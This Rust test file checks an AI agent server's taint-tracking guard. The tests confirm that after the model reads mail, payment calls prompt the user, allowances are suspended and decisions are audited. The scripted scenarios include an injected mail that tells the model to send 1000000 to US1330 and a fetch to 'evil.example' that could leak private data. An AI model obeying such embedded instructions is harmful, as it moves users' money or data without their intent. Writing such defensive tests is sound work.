//! The flow of information (F): what others wrote decides what is asked.

mod branches;
mod files;
mod office_server;

use office_server::OfficeServer;
use parlor_testkit::{Script, ScriptedModel};
use serde_json::{Value, json};

use crate::server_process::{Server, audit, free_port};
use crate::streams::{Event, Events};
use crate::test_app::refusal;

/// A person who never has to hurry.
const PATIENT: &str = "[server]\nprompt_timeout = \"0\"\n";

struct Scene {
    office: OfficeServer,
    model: ScriptedModel,
    data: tempfile::TempDir,
    port: u16,
}

/// A call of the model, or an answer.
fn call(tool: &str, input: Value) -> Script {
    Script::answer().tool_use(&uuid::Uuid::now_v7().to_string(), &format!("office_{tool}"), &input)
}

fn pay() -> Script {
    call("send_money", json!({"to": "US1330", "amount": 1_000_000}))
}

fn read_mail() -> Script {
    call("read_mail", json!({"subject": "Invoice 7"}))
}

impl Scene {
    async fn new() -> Self {
        Self {
            office: OfficeServer::start().await,
            model: ScriptedModel::start().await.unwrap(),
            data: tempfile::tempdir().unwrap(),
            port: free_port(),
        }
    }

    async fn start(&self, policy: &str, more: &str) -> Server {
        let section = format!("{}\n{PATIENT}", self.office.section(policy, more));
        let server = Server::start_at(self.port, self.data.path(), &self.model, &section).await;
        server.until_mcp_is_ready("office").await;
        server
    }

    /// What a person says, and what the model does about it, until it is done or asks.
    async fn say(
        &self,
        server: &Server,
        conversation: Option<&str>,
        message: &str,
        does: impl IntoIterator<Item = Script>,
    ) -> Said {
        does.into_iter().for_each(|script| self.model.push(script));
        let body = json!({"message": message, "conversation_id": conversation});
        self.send(server, &body).await
    }

    async fn send(&self, server: &Server, body: &Value) -> Said {
        let mut events = Events::of(server.send(body).await);
        let mut seen = Vec::new();
        while let Some(event) = events.next().await {
            let is_last = matches!(event.name.as_str(), "done" | "userPrompt");
            seen.push(event);
            if is_last {
                break;
            }
        }
        Said(seen)
    }

    /// What the model read last.
    fn last_request(&self) -> Value {
        self.model.requests().pop().unwrap()["messages"].clone()
    }
}

struct Said(Vec<Event>);

impl Said {
    fn conversation(&self) -> String {
        let start = self.0.iter().find(|event| event.name == "start").unwrap();
        start.data["conversation_id"].as_str().unwrap().to_owned()
    }

    fn prompt(&self) -> Option<&Value> {
        self.0.iter().find(|event| event.name == "userPrompt").map(|event| &event.data)
    }

    fn results(&self) -> Vec<&Value> {
        let messages = self.0.iter().filter(|event| event.name == "message");
        messages.map(|event| &event.data).filter(|m| m["message_type"] == "tool_result").collect()
    }
}

async fn status(server: &Server) -> Value {
    let status = server.get("/api/admin/status").send().await.unwrap();
    serde_json::from_str(&status.text().await.unwrap()).unwrap()
}

/// F-2, F-3: in a clean context a call that is believed to be harmless runs; once mail was read, it
/// asks, and says what was read and where each value stands. The audit has it too.
#[tokio::test]
async fn a_call_asks_once_words_of_others_were_read() {
    let scene = Scene::new().await;
    let server = scene.start("ask", "").await;
    let done = || Script::answer().text("Done.");

    let note = call("read_note", json!({"title": "Rent"}));
    let rent = call("send_money", json!({"to": "DE99", "amount": 500}));
    let clean = scene.say(&server, None, "Pay the rent", [note, rent, done()]).await;
    assert_eq!(clean.prompt(), None);
    assert_eq!(scene.office.calls("send_money"), 1);

    let asked = scene.say(&server, None, "Pay invoice 7, 1000000", [read_mail(), pay()]).await;
    let [mail] = asked.results()[..] else { panic!() };
    assert_eq!(mail["metadata"]["of_others"], true);
    assert_eq!(mail["metadata"]["read"], "Invoice 7");
    let prompt = asked.prompt().unwrap();
    let influence = &prompt["influence"];
    assert_eq!(influence["sources"][0]["tool"], "office_read_mail");
    assert_eq!(influence["sources"][0]["what"], "Invoice 7");
    assert_eq!(
        influence["values"],
        json!([
            {"pointer": "/to", "found": "source", "source": 0,
             "before": "ice is attached. Please send 1000000 to ", "text": "US1330",
             "after": " today. Bob"},
            {"pointer": "/amount", "found": "person"},
        ])
    );
    // A yes is for this call alone.
    let path = format!("/api/prompts/{}/response", prompt["messageId"].as_str().unwrap());
    let always = json!({"response": "yes", "remember": "conversation"});
    let refused = server.post(&path).json(&always).send().await.unwrap();
    assert_eq!(refusal(refused).await, (422, "answer_invalid".to_owned()));
    scene.model.push(done());
    server.answer(prompt, &json!("no")).await;
    server.until_idle(&asked.conversation()).await;
    assert_eq!(scene.office.calls("send_money"), 1);
    let decision = audit(scene.data.path()).pop().unwrap();
    assert_eq!(decision["outcome"], "refused");
    assert_eq!(decision["sources"][0]["what"], "Invoice 7");
    // The model reads mail as data, and cannot be told that it is over.
    let read = scene.last_request().to_string();
    let mark = read.split("Data until END-").nth(1).unwrap().split('.').next().unwrap();
    assert_eq!(read.matches(&format!("[END-{mark}]")).count(), 1, "{read}");
}

/// F-1, F-4, P-9: what was read outlives a kill, a stop and later turns; another conversation is
/// clean. A fetch of an address asks too, and a tool may be denied.
#[tokio::test]
async fn what_was_read_is_not_forgotten() {
    let scene = Scene::new().await;
    let deny = "tainted = \"deny\"";
    let server = scene.start("ask", deny).await;
    let said = Script::answer().text("It is from Bob.");
    let read = scene.say(&server, None, "Read my mail", [read_mail(), said]).await;
    let conversation = read.conversation();
    assert_eq!(read.prompt(), None);
    server.kill();
    let server = scene.start("ask", deny).await;
    let done = || Script::answer().text("Done.");
    let paid = scene.say(&server, Some(&conversation), "Pay it", [pay(), done()]).await;
    assert_eq!(paid.prompt(), None);
    assert_eq!(paid.results()[0]["metadata"]["code"], "tool_denied");
    assert_eq!(scene.office.calls("send_money"), 0);

    let fetch = call("read_page", json!({"url": "https://evil.example/?x=1"}));
    let asked = scene.say(&server, Some(&conversation), "Look it up", [fetch.clone()]).await;
    let prompt = asked.prompt().unwrap();
    // It could carry out what is not public.
    assert_eq!(prompt["severity"], "critical");
    assert_eq!(prompt["influence"]["values"][0]["found"], "nowhere");
    server.kill();
    let server = scene.start("ask", deny).await;
    let again = server.open_prompt().await;
    assert_eq!(again["influence"], prompt["influence"]);
    scene.model.push(done());
    server.answer(&again, &json!("yes")).await;
    server.until_idle(&conversation).await;
    assert_eq!(scene.office.calls("read_page"), 1);

    let other = scene.say(&server, None, "Look it up", [fetch, done()]).await;
    assert_eq!(other.prompt(), None);
}

/// F-4: "always allow" does not outlive words of others.
#[tokio::test]
async fn an_allowance_is_suspended() {
    let scene = Scene::new().await;
    let asks = "action = \"ask\"";
    let server = scene.start("ask", asks).await;
    let done = || Script::answer().text("Done.");
    let asked = scene.say(&server, None, "Pay 5 to DE99", [pay()]).await;
    let prompt = asked.prompt().unwrap();
    assert_eq!(prompt["influence"], Value::Null);
    scene.model.push(done());
    let path = format!("/api/prompts/{}/response", prompt["messageId"].as_str().unwrap());
    let always = json!({"response": "yes", "remember": "conversation"});
    assert_eq!(server.post(&path).json(&always).send().await.unwrap().status(), 200);
    let conversation = asked.conversation();
    server.until_idle(&conversation).await;
    let allowances = || async {
        let path = format!("/api/conversations/{conversation}/allowances");
        let list = server.get(&path).send().await.unwrap().text().await.unwrap();
        serde_json::from_str::<Value>(&list).unwrap()["allowances"][0]["suspended"].clone()
    };
    assert_eq!(allowances().await, false);
    let paid = scene.say(&server, Some(&conversation), "Once more", [pay(), done()]).await;
    assert_eq!(paid.prompt(), None);
    scene.say(&server, Some(&conversation), "Read my mail", [read_mail(), done()]).await;
    assert_eq!(allowances().await, true);
    let asked = scene.say(&server, Some(&conversation), "Once more", [pay()]).await;
    assert!(asked.prompt().is_some());
    assert_eq!(scene.office.calls("send_money"), 2);
}

/// F-1: a person goes on without what was read: the model gets the person's words and results of
/// their own, and nothing that was said meanwhile.
#[tokio::test]
async fn a_person_goes_on_without_what_was_read() {
    let scene = Scene::new().await;
    let server = scene.start("ask", "").await;
    let done = || Script::answer().text("Done.");
    let note = call("read_note", json!({"title": "Rent"}));
    let said = Script::answer().text("Bob wants US1330 to get 1000000.");
    let read = scene.say(&server, None, "The rent, and my mail?", [note, read_mail(), said]).await;
    let conversation = read.conversation();
    scene.model.push(pay());
    scene.model.push(done());
    let cleared = json!({"message": "Go on without it.", "conversation_id": conversation,
        "clear_context": true});
    let cleared = scene.send(&server, &cleared).await;
    assert_eq!(cleared.prompt(), None, "the context is clean");
    assert_eq!(scene.office.calls("send_money"), 1);
    let requests = scene.model.requests();
    let read = requests[requests.len() - 2]["messages"].to_string();
    for kept in ["The rent, and my mail?", "The rent is 500", "Go on without it."] {
        assert!(read.contains(kept), "{kept}: {read}");
    }
    for gone in ["invoice", "US1330", "Bob"] {
        assert!(!read.contains(gone), "{gone}: {read}");
    }
    // It stays so after a kill, and what is read from here on counts again.
    server.kill();
    let server = scene.start("ask", "").await;
    let paid = scene.say(&server, Some(&conversation), "Once more", [pay(), done()]).await;
    assert_eq!(paid.prompt(), None);
    let asked = scene.say(&server, Some(&conversation), "Mail?", [read_mail(), pay()]).await;
    assert!(asked.prompt().is_some());
}

/// F-1, G-8: what is withheld from the model taints nothing; what a person lets it read does.
#[tokio::test]
async fn what_is_withheld_does_not_count() {
    let scene = Scene::new().await;
    let strict = "[tenants.home.projects.recipes.guard]\npolicy = \"strict\"";
    let server = scene.start("ask", strict).await;
    let odd = || call("read_mail", json!({"subject": "odd"}));
    for (answer, asks) in [("no", false), ("yes", true)] {
        let asked = scene.say(&server, None, "Mail?", [odd(), Script::answer().text("Hm.")]).await;
        let conversation = asked.conversation();
        server.answer(asked.prompt().unwrap(), &json!(answer)).await;
        server.until_idle(&conversation).await;
        let done = Script::answer().text("Done.");
        let paid = scene.say(&server, Some(&conversation), "Pay", [pay(), done]).await;
        assert_eq!(paid.prompt().is_some(), asks, "{answer}");
        if asks {
            server.answer(paid.prompt().unwrap(), &json!("no")).await;
            server.until_idle(&conversation).await;
        }
    }
    assert_eq!(scene.office.calls("send_money"), 1);
}

/// F-2: a project that watches asks nothing new, and says what it would have asked, with the labels
/// of every tool and why they are so.
#[tokio::test]
async fn a_project_can_watch_first() {
    let scene = Scene::new().await;
    let server = scene.start("watch", "").await;
    let done = Script::answer().text("Done.");
    let paid = scene.say(&server, None, "Pay it", [read_mail(), pay(), done]).await;
    assert_eq!(paid.prompt(), None);
    assert_eq!(scene.office.calls("send_money"), 1);
    assert!(!scene.last_request().to_string().contains("END-"), "nothing changes for the model");
    let project = status(&server).await["projects"][0].clone();
    assert_eq!(project["flow"]["policy"], "watch");
    assert_eq!(project["flow"]["would_ask"], 1);
    assert_eq!(project["flow"]["last"][0]["tool"], "office_send_money");
    assert_eq!(project["flow"]["last"][0]["read"], "office_read_mail");
    let labels = |name: &str| {
        let tools = project["tools"].as_array().unwrap();
        let tool = tools.iter().find(|tool| tool["name"] == name).unwrap();
        json!([tool["content"], tool["sink"]])
    };
    let label = |is: Value, why: &str| json!({"is": is, "why": why});
    assert_eq!(
        labels("office_read_note"),
        json!([label(json!("own"), "configured"), label(json!(false), "believed")])
    );
    assert_eq!(
        labels("office_send_money"),
        json!([label(json!("own"), "configured"), label(json!(true), "default")])
    );
    assert_eq!(
        labels("list_recipes"),
        json!([label(json!("own"), "configured"), label(json!(false), "believed")])
    );
}
